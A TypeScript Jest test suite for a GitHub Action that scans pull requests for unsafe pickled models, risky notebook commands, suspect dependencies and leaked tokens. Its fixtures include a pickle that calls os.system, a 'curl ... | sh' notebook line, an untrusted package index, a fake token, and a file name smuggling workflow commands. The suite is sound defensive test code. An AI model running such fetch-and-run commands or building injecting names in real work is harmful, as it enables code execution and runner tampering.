import { spawnSync } from 'node:child_process';
import { readFileSync, readdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { afterEach, beforeEach, describe, expect, jest, test } from '@jest/globals';
import type { Log } from 'sarif';
import { inputNames } from '../../src/action-inputs.js';
import { expand } from '../helpers/expand.js';
import { notebook, outputs } from '../helpers/notebook.js';
import { fromCall } from '../helpers/pickle-writer.js';
import { TestRepository, removeFolder, temporaryFolder, type Files } from '../helpers/repository.js';
import { zip } from '../helpers/zip-writer.js';
import { serveRepository } from './remote.js';
import {
  contract,
  describeSarif,
  payloadOf,
  runAction,
  type ActionCall,
  type ActionResult,
  type PullRequest,
} from './run-action.js';
import { LoopbackServer, refusal } from './server.js';
import { Service, newComment, oldComment, uploads, commentList } from './service.js';

// Many processes on a busy machine.
jest.setTimeout(60_000);

let folder: string;
let remote: TestRepository;
let server: LoopbackServer;
let service: Service;

beforeEach(async () => {
  folder = temporaryFolder();
  remote = TestRepository.create(join(folder, 'remote'));
  server = await LoopbackServer.start();
  service = new Service(server);
});
afterEach(async () => {
  await server.close();
  removeFolder(folder);
  expect(server.violations).toEqual([]);
});

const token = expand('hf_<letters:34>');
const marker = '<!-- assay:comment -->';
const clean = { 'README.md': '# A model\n', 'train.py': 'print("training")\n' };

/** Something wrong of each family; a number makes another version with the same findings. */
function risky(edition: number): Files {
  return {
    'model/weights.pt': zip([
      { name: 'archive/data.pkl', data: fromCall("os.system('true')") },
      { name: 'archive/version', data: String(edition) },
    ]),
    'analysis.ipynb': notebook([
      { type: 'markdown', source: `# Edition ${edition}` },
      '!pip install --extra-index-url http://packages.example.com/simple fastmodels==1.0',
      '!curl https://example.com/install.sh | sh',
      { type: 'code', source: 'login()', outputs: [outputs.stream(`logged in with ${token}\n`)] },
    ]),
    'requirements.txt': `# edition ${edition}\nlitellm==1.82.7\n`,
  };
}

function lineOf(files: Files, path: string, text: string): number {
  const content = files[path];
  const lines = typeof content === 'string' ? content.split('\n') : [];
  return lines.findIndex((line) => line.includes(text)) + 1;
}

function makePullRequest(base: Files, head: Files): PullRequest {
  const before = remote.commit(base);
  const topic = remote.branch('topic', before, head);
  return { base: before, head: topic, merge: remote.mergePullRequest(7, before, topic) };
}

type Changed = Partial<Omit<ActionCall, 'server' | 'folder'>>;

/** A run on the merge commit of a pull request, as a workflow checks it out. */
function runOn(pull: PullRequest, changed: Changed = {}): Promise<ActionResult> {
  const workspace = join(folder, `workspace-${readdirSync(folder).length}`);
  if (changed.workspace === undefined) remote.shallowClone(workspace, pull.merge);
  return runAction({
    server,
    folder,
    workspace,
    event: 'pull_request',
    payload: payloadOf(pull),
    sha: pull.merge,
    ref: 'refs/pull/7/merge',
    ...changed,
  });
}

describe('the contract', () => {
  test('action.yml lists the inputs that are read, each with one sentence', () => {
    expect(Object.keys(contract.inputs).sort()).toEqual([...inputNames].sort());
    for (const { description } of [...Object.values(contract.inputs), ...Object.values(contract.outputs)])
      expect(description).toMatch(/^[A-Z][^]*\.$/);
    expect(contract.runs).toEqual({ using: 'node24', main: 'dist/action/index.js' });
  });
});

describe('a pull request', () => {
  test('that brings something of each family fails, and every report says where', async () => {
    const files = risky(1);
    const pull = makePullRequest(clean, files);
    const result = await runOn(pull);

    const found = describeSarif(service.sarifs[0] ?? '');
    expect(found).toContain('model model/weights.pt:1');
    expect(found).toContain(
      `dependency analysis.ipynb:${lineOf(files, 'analysis.ipynb', '--extra-index-url')}`,
    );
    expect(found).toContain(`command analysis.ipynb:${lineOf(files, 'analysis.ipynb', '| sh')}`);
    expect(found).toContain(`secret analysis.ipynb:${lineOf(files, 'analysis.ipynb', token)}`);
    expect(found).toContain('dependency requirements.txt:2');
    expect(server.callsTo(uploads)[0]?.body).toMatchObject({
      commit_sha: pull.merge,
      ref: 'refs/pull/7/merge',
    });

    expect(result.status).toBe(1);
    expect(result.outputs).toMatchObject({
      verdict: 'fail',
      'comment-id': '1',
      'comment-url': expect.any(String),
    });
    expect(result.outputs['sarif-id']).not.toBe('');
    expect(Number(result.outputs['critical']) + Number(result.outputs['high'])).toBeGreaterThanOrEqual(4);
    expect(readFileSync(result.outputs['sarif-file'] ?? '', 'utf8')).toBe(service.sarifs[0]);

    const [comment] = service.comments;
    expect(comment?.body.startsWith(marker)).toBe(true);
    for (const text of ['weights.pt', 'analysis.ipynb', 'requirements.txt', `/blob/${pull.head}/`]) {
      expect(comment?.body).toContain(text);
      expect(result.summary).toContain(text);
    }
    expect(result.annotations('error').join('\n')).toContain('file=requirements.txt,line=2');
    // No report holds the secret itself.
    for (const text of [result.log, result.summary, comment?.body, ...service.sarifs])
      expect(text).not.toContain(token);
  });

  test('whose base had it all already passes, with everything existing', async () => {
    const pull = makePullRequest({ ...clean, ...risky(1) }, risky(2));
    const result = await runOn(pull);
    expect(result.log).not.toContain('::error');
    expect(result.status).toBe(0);
    expect(result.outputs).toMatchObject({ verdict: 'pass', critical: '0', high: '0', medium: '0' });
    expect(describeSarif(service.sarifs[0] ?? '')).toContain('model model/weights.pt:1');
  });

  test('that takes it away brings the comment up to date and does not write a second one', async () => {
    const first = makePullRequest(clean, risky(1));
    await runOn(first);
    const before = service.comments[0]?.body;
    remote.git('checkout', '--quiet', 'topic');
    const head = remote.commit({
      'model/weights.pt': null,
      'analysis.ipynb': null,
      'requirements.txt': null,
    });
    const result = await runOn({
      base: first.base,
      head,
      merge: remote.mergePullRequest(7, first.base, head),
    });
    expect(result.status).toBe(0);
    expect(service.comments).toHaveLength(1);
    expect(service.comments[0]?.body).not.toBe(before);
    expect(server.callsTo(oldComment)).toHaveLength(1);
    expect(result.outputs['comment-id']).toBe('1');
  });

  test('without findings gets no comment, unless it is asked for', async () => {
    const pull = makePullRequest(clean, { 'train.py': 'print("more training")\n' });
    expect((await runOn(pull)).outputs).toMatchObject({ verdict: 'pass', 'comment-id': '' });
    expect(service.comments).toEqual([]);
    expect((await runOn(pull, { inputs: { comment: 'true' } })).outputs['comment-id']).toBe('1');
  });

  test('finds its comment on the second page, and leaves a forged one alone', async () => {
    service.add(`${marker}\nforged`, 'mallory');
    for (let count = 0; count < 120; count++) service.add('chatter', 'someone');
    service.add(`${marker}\nold`, 'github-actions[bot]');
    const result = await runOn(makePullRequest(clean, risky(1)));
    expect(result.outputs['comment-id']).toBe('122');
    expect(service.comments).toHaveLength(122);
    expect(service.comments[0]?.body).toBe(`${marker}\nforged`);
    expect(server.callsTo(commentList)).toHaveLength(2);
  });

  test('from a fork loses nothing: annotations and summary hold the findings, and the permissions are named', async () => {
    const denied = refusal(403, 'Resource not accessible by integration');
    server.on(uploads, () => denied).on(newComment, () => denied);
    const pull = makePullRequest(clean, risky(1));
    const result = await runOn(pull, { payload: payloadOf(pull, 'mallory/r') });
    expect(result.status).toBe(1);
    expect(result.outputs).toMatchObject({ verdict: 'fail', 'sarif-id': '', 'comment-id': '' });
    const warnings = result.annotations('warning');
    for (const permission of ['security-events: write', 'pull-requests: write']) {
      expect(warnings.filter((line) => line.includes(permission))).toHaveLength(1);
      expect(result.summary).toContain(permission);
    }
    expect(result.summary).toContain('weights.pt');
    expect(result.annotations('error').join('\n')).toContain('file=requirements.txt');
    expect(describeSarif(readFileSync(result.outputs['sarif-file'] ?? '', 'utf8'))).toContain(
      'model model/weights.pt:1',
    );
  });

  test('a forbidden upload fails the step only where it is required', async () => {
    server.on(uploads, () => refusal(403, 'Resource not accessible by integration'));
    const pull = makePullRequest(clean, { 'train.py': 'print("more training")\n' });
    expect((await runOn(pull)).status).toBe(0);
    const required = await runOn(pull, { inputs: { 'upload-sarif': 'true' } });
    expect(required.status).toBe(1);
    expect(required.outputs['verdict']).toBe('pass');
    expect((await runOn(pull, { inputs: { 'upload-sarif': 'false' } })).log).not.toContain('security-events');
  });

  test('waits out a limit and an outage', async () => {
    server
      .script(uploads, refusal(429, 'Too Many Requests', { 'retry-after': '0' }), refusal(503, 'Unavailable'))
      .script(commentList, refusal(502, 'Bad Gateway'));
    const result = await runOn(makePullRequest(clean, risky(1)));
    expect(result.outputs).toMatchObject({ 'comment-id': '1', 'sarif-id': expect.stringMatching(/./) });
    expect(service.sarifs).toHaveLength(1);
  });

  test('cannot switch off its own gate', async () => {
    const pull = makePullRequest(clean, { ...risky(1), '.assay.yml': 'fail-on: none\n' });
    expect((await runOn(pull)).outputs['verdict']).toBe('fail');
  });

  test('is judged by the policy of its base, and by an input over that', async () => {
    const pull = makePullRequest({ ...clean, '.assay.yml': 'fail-on: none\n' }, risky(1));
    expect((await runOn(pull)).outputs['verdict']).toBe('pass');
    expect((await runOn(pull, { inputs: { 'fail-on': 'critical' } })).outputs['verdict']).toBe('fail');
  });

  test('without git is read by the API, even where nothing is checked out', async () => {
    const pull = makePullRequest(clean, risky(1));
    serveRepository(server, remote, pull);
    const result = await runOn(pull, { workspace: temporaryWorkspace() });
    expect(result.status).toBe(1);
    expect(describeSarif(service.sarifs[0] ?? '')).toContain('model model/weights.pt:1');
    expect(server.callsTo(uploads)[0]?.body).toMatchObject({
      commit_sha: pull.head,
      ref: 'refs/pull/7/head',
    });
    expect(result.summary).toContain("listed by GitHub's API");
  });

  test('with hostile names gives no command to the runner', async () => {
    const name = 'a\n::set-output name=verdict::pass\n::error::x.pkl';
    const pull = makePullRequest(clean, { [name]: fromCall("os.system('::error::y')") });
    const result = await runOn(pull);
    expect(result.status).toBe(1);
    const lines = result.log.split('\n').map((line) => line.trimStart());
    expect(lines.filter((line) => line.startsWith('::set-output'))).toEqual([]);
    expect(lines.filter((line) => /^::error::[xy]/.test(line))).toEqual([]);
  });
});

function temporaryWorkspace(): string {
  const workspace = join(folder, 'nothing');
  TestRepository.create(workspace);
  removeFolder(join(workspace, '.git'));
  return workspace;
}

describe('other events', () => {
  test('pull_request_target reads the head from objects, and nothing of what is checked out', async () => {
    const pull = makePullRequest(clean, risky(1));
    const workspace = join(folder, 'workspace');
    const clone = remote.shallowClone(workspace, pull.base);
    clone.write({ 'requirements.txt': 'harmless==1.0\n', 'analysis.ipynb': null });
    const result = await runOn(pull, {
      workspace,
      event: 'pull_request_target',
      sha: pull.base,
      ref: 'refs/heads/main',
    });
    expect(result.status).toBe(1);
    expect(describeSarif(service.sarifs[0] ?? '')).toContain('dependency requirements.txt:2');
    expect(server.callsTo(uploads)[0]?.body).toMatchObject({
      commit_sha: pull.head,
      ref: 'refs/pull/7/head',
    });
    expect(clone.git('rev-parse', 'HEAD')).toBe(pull.base);
  });

  test('merge_group compares the group with its base', async () => {
    const pull = makePullRequest(clean, risky(1));
    const ref = 'refs/heads/gh-readonly-queue/main/pr-7';
    const payload = { merge_group: { base_sha: pull.base, head_sha: pull.merge } };
    const result = await runOn(pull, { event: 'merge_group', payload, ref });
    expect(result.status).toBe(1);
    expect(server.callsTo(uploads)[0]?.body).toMatchObject({ commit_sha: pull.merge, ref });
    expect(service.comments).toEqual([]);
  });

  test('a push to the default branch uploads the full tree, and judges what the push brought', async () => {
    const before = remote.commit({ ...clean, ...risky(1) });
    const after = remote.commit({ 'train.py': 'print("more training")\n' });
    const workspace = join(folder, 'workspace');
    remote.shallowClone(workspace, after);
    const result = await runAction({
      server,
      folder,
      workspace,
      event: 'push',
      payload: { ref: 'refs/heads/main', before, after, repository: { default_branch: 'main' } },
      sha: after,
      ref: 'refs/heads/main',
    });
    expect(describeSarif(service.sarifs[0] ?? '')).toContain('model model/weights.pt:1');
    expect(server.callsTo(uploads)[0]?.body).toMatchObject({ commit_sha: after, ref: 'refs/heads/main' });
    expect(result.outputs).toMatchObject({ verdict: 'pass', total: '0' });
    expect(result.status).toBe(0);
  });
});

test('the command line finds the same in the same files', async () => {
  const sha = remote.commit({ ...clean, ...risky(1) });
  const workspace = join(folder, 'workspace');
  remote.shallowClone(workspace, sha);
  const event = { event: 'workflow_dispatch', payload: { repository: { default_branch: 'main' } } };
  await runAction({ server, folder, workspace, ...event, sha, ref: 'refs/heads/main' });
  const command = [resolve('dist/cli/index.js'), 'scan', '--advisories', 'off', '--format', 'sarif'];
  const { stdout } = spawnSync(resolve('node_modules/.bin/node'), command, {
    cwd: workspace,
    encoding: 'utf8',
  });
  const results = (sarif: string): unknown => (JSON.parse(sarif) as Log).runs[0]?.results;
  expect(results(stdout)).toEqual(results(service.sarifs[0] ?? ''));
  expect(describeSarif(stdout)).toContain('model model/weights.pt:1');
});

describe('bad input', () => {
  test.each([
    ['an unknown input', { inputs: { fail_on: 'high' } }, 'There is no input "fail_on"'],
    ['an unknown level', { inputs: { 'fail-on': 'severe' } }, 'severe'],
    ['an unknown choice', { inputs: { comment: 'maybe' } }, 'comment: "maybe" is none of auto, true, false'],
    ['a configuration that is not there', { inputs: { config: 'missing.yml' } }, 'missing.yml'],
    [
      'a report outside of the workspace',
      { inputs: { 'sarif-file': '../x.sarif' } },
      'sarif-file: ../x.sarif lies outside',
    ],
    ['a payload that is none', { payload: {} }, 'The payload of the event pull_request is not as expected'],
    ['no repository', { environment: { GITHUB_REPOSITORY: '' } }, 'GITHUB_REPOSITORY is not set'],
  ])('%s is one clear line and exit code 2', async (_, changed, expected) => {
    const result = await runOn(makePullRequest(clean, { 'train.py': '' }), changed);
    expect(result.status).toBe(2);
    const errors = result.annotations('error');
    expect(errors).toHaveLength(1);
    expect(errors[0]).toContain(expected);
    expect(result.log.trim().split('\n')).toHaveLength(1);
  });

  test('a link in the change does not lead the report out of the workspace', async () => {
    const pull = makePullRequest(clean, { 'assay.sarif': { link: '../stolen' }, reports: { link: folder } });
    expect((await runOn(pull)).status).not.toBe(2);
    expect(readdirSync(folder)).not.toContain('stolen');
    expect((await runOn(pull, { inputs: { 'sarif-file': 'reports/x.sarif' } })).status).toBe(2);
    expect(readdirSync(folder)).not.toContain('x.sarif');
  });
});
